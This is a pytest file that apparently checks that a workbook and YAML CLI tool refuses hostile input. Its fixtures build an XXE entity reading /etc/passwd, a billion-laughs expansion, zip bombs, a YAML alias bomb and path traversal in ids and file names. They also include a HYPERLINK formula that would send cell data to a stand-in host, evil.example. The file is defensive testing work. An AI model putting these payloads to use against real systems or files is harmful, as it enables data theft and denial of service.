"""Untrusted files through the command: hostile workbooks, YAML alias bombs, traversal in ids and
letter names, formula-like text.  Each is refused (or made harmless) quickly, in bounded memory,
with a message naming the file, and nothing is written.

The reader-level cases are in tests/io/test_workbook_hostile.py; these are what a user meets at the CLI.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

import cjm
from tests.conftest import SEED_EXAMPLE
from tests.hostile.conftest import cli, listing
from tests.io.test_workbook_hostile import BILLION_LAUGHS, _declare_size, bounded
from tests.io.workbook_editing import workbook_bytes
from tests.io.xlsx_fixtures import repack


@pytest.fixture(scope="module")
def genuine() -> bytes:
    return workbook_bytes(cjm.load(SEED_EXAMPLE), template=True)


def _sheets(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return [n for n in package.namelist() if n.startswith("xl/worksheets/sheet")]


def _every_sheet(data: bytes, xml: str | bytes) -> bytes:
    body = xml.encode() if isinstance(xml, str) else xml
    return repack(data, replace=dict.fromkeys(_sheets(data), body))


def _xxe(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        xml = package.read("xl/workbook.xml")
    entity = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><workbook'
    return repack(data, replace={"xl/workbook.xml": xml.replace(b"<workbook", entity, 1)})


def _bomb(data: bytes) -> bytes:  # true size headers: 40 MB of spaces that deflate to almost nothing
    sheet = _sheets(data)[1]
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        xml = package.read(sheet)
    return repack(data, replace={sheet: xml.replace(b"<sheetData>", b"<sheetData>" + b" " * (40 << 20), 1)})


def _lying(data: bytes) -> bytes:  # false size header: a sheet that says it is 1,000 bytes
    return _declare_size(data, _sheets(data)[1], 1000)


def _huge_declared(data: bytes) -> bytes:  # a header that claims 300 MB
    return _declare_size(data, _sheets(data)[1], 300 << 20)


HOSTILE = {
    "entity-expansion": (lambda data: _every_sheet(data, BILLION_LAUGHS), "document type or entities"),
    "external-entity": (_xxe, "document type or entities"),
    "zip-bomb": (_bomb, "zip bomb"),
    "false-size-header": (_lying, "xl/worksheets/sheet"),  # stops at the declared size: named as damaged
    "huge-size-header": (_huge_declared, "zip bomb"),  # refused by the ratio it declares, before reading
    "truncated": (lambda data: data[: len(data) // 2], "truncated"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_hostile_workbook_is_refused_by_import(
    capsys: pytest.CaptureFixture[str], genuine: bytes, journey_file: Path, tmp_path: Path, case: str
) -> None:
    make, expected = HOSTILE[case]
    workbook = tmp_path / f"{case}.xlsx"
    workbook.write_bytes(make(genuine))
    before = journey_file.read_bytes()
    output = tmp_path / "out.yaml"
    with bounded():  # 3 s and 32 MB, as the reader-level tests
        code, out, err = cli(capsys, "import", workbook, "--output", output)
        code_into, _, err_into = cli(capsys, "import", workbook, "--into", journey_file)
    assert (code, code_into) == (1, 1)
    for message in (err, err_into):
        assert message.startswith(f"cjm: {workbook}: cannot read the workbook"), message
        assert expected in message
    assert not output.exists()
    assert out == ""
    assert journey_file.read_bytes() == before


ALIAS_BOMB = "id: j\ntitle: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"k{i}: &a{i} [{', '.join(['*a' if i == 0 else f'*a{i - 1}'] * 9)}]\n" for i in range(12)
)


def test_a_yaml_alias_bomb_is_refused_at_once(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    path = tmp_path / "bomb.yaml"
    path.write_text(ALIAS_BOMB, encoding="utf-8")
    with bounded():
        code, _, err = cli(capsys, "validate", path)
        code_export, _, err_export = cli(capsys, "export", path, "-o", tmp_path / "map.md")
    assert (code, code_export) == (1, 1)
    assert f"{path}:3" in err
    assert "aliases" in err
    assert "aliases" in err_export
    assert listing(tmp_path) == ["bomb.yaml"]


@pytest.mark.parametrize("bad", ["../../etc/passwd", "a/b", "..", "/abs"])
def test_ids_with_traversal_are_refused(capsys: pytest.CaptureFixture[str], tmp_path: Path, bad: str) -> None:
    text = SEED_EXAMPLE.read_text(encoding="utf-8")
    first_id = next(line for line in text.splitlines() if line.startswith("id: "))
    path = tmp_path / "journey.yaml"
    path.write_text(text.replace(first_id, f"id: {bad!r}", 1), encoding="utf-8")
    code, _, err = cli(capsys, "export", path, "-o", tmp_path / "map.md")
    assert code == 1
    assert f"{path}:" in err
    assert "id" in err
    assert listing(tmp_path) == ["journey.yaml"]


def test_letters_with_traversal_in_names_stay_in_their_folder(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    recipients = tmp_path / "recipients.csv"
    recipients.write_text(
        "organisation,department,name,title,contact,proposed_times\n"
        "../../evil,정형외과,/etc/passwd,교수님,a@b.c,월요일\n"
        "..\\..\\win,x,C:\\Windows,x,a@b.c,화요일\n",
        encoding="utf-8",
    )
    letters = tmp_path / "letters"
    code, _, err = cli(
        capsys, "letters", recipients, "--output-dir", letters, "--set", "company=ABC", "--set", "sender=CX"
    )
    assert code == 0, err
    written = sorted(p for p in tmp_path.rglob("*") if p.is_file())
    assert len(written) == 5
    assert all(p.parent == letters for p in written if p != recipients)
    assert not any(".." in p.name or "/" in p.name for p in written)


def test_formula_like_text_stays_text_in_the_workbook(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    text = SEED_EXAMPLE.read_text(encoding="utf-8")
    first_title = next(line for line in text.splitlines() if line.startswith("title: "))
    path = tmp_path / "journey.yaml"
    path.write_text(text.replace(first_title, f"title: {formula!r}", 1), encoding="utf-8")
    output = tmp_path / "map.xlsx"
    code, _, err = cli(capsys, "export", path, "-o", output)
    assert code == 0, err
    book = openpyxl.load_workbook(output)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert any(cell.value == formula and cell.data_type == "s" for cell in cells)
    assert not any(cell.data_type == "f" and "HYPERLINK" in str(cell.value) for cell in cells)
